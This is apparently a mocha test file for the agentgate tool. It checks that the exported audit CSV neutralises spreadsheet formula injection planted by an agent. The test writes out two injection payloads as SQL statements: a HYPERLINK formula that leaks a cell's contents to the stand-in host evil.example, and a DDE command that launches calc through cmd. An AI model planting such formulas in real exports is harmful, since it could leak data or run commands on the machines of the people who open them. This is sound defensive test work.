/**
 * Hostile review round 2 (issue #12): the evidence bundle's decisions.csv is opened by auditors in a
 * spreadsheet. Cells are quoted (evidence.ts csv) but not neutralised: a cell whose text the agent
 * chose and that begins with = + - @ (or a tab/CR) is a formula to Excel, LibreOffice and Sheets even
 * inside quotes (CSV/formula injection). The statement column carries what the agent sent, so an agent
 * plants a HYPERLINK (or DDE) formula in the evidence an auditor opens.
 */
import { expect } from 'chai';
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { startLocalStack, type LocalStack } from '../../proxy/local/stack.js';

const run = promisify(execFile);
const BIN = new URL('../../bin/agentgate.js', import.meta.url).pathname;

/** RFC 4180 cells of one CSV text (quoted cells may hold commas, quotes and newlines). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cur = '';
  let q = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (q) {
      if (ch === '"' && csv[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') q = false;
      else cur += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',' || ch === '\n') {
      out.push(cur);
      cur = '';
    } else if (ch !== '\r') cur += ch;
  }
  out.push(cur);
  return out;
}

describe('review-gate2: formulas planted by an agent in the evidence CSV', function () {
  this.timeout(120_000);
  let s: LocalStack;
  after(() => s?.postgres.stop());

  it('no decisions.csv cell the agent wrote starts a spreadsheet formula', async () => {
    s = await startLocalStack();
    const c = await s.connect('csv-agent');
    for (const sql of ['=HYPERLINK("https://evil.example/?leak="&A2,"open ticket")', "@SUM(1+1)*cmd|' /C calc'!A0"])
      await c.query(sql).catch(() => undefined);
    await c.end();
    await s.proxy.stop();
    const out = mkdtempSync(join(tmpdir(), 'agentgate-evidence-'));
    await run(process.execPath, [
      BIN,
      'evidence',
      '--audit-file',
      s.auditFile,
      '--out',
      out,
      '--from',
      '2000-01-01',
      '--to',
      '2100-01-01',
    ]);
    const csv = readFileSync(join(out, 'decisions.csv'), 'utf8');
    expect(csv, 'the planted statements are in the evidence').to.contain('HYPERLINK');
    const formulas = cells(csv).filter((x) => /^[=+\-@\t\r]/.test(x));
    expect(formulas, 'cells a spreadsheet evaluates').to.deep.equal([]);
  });
});
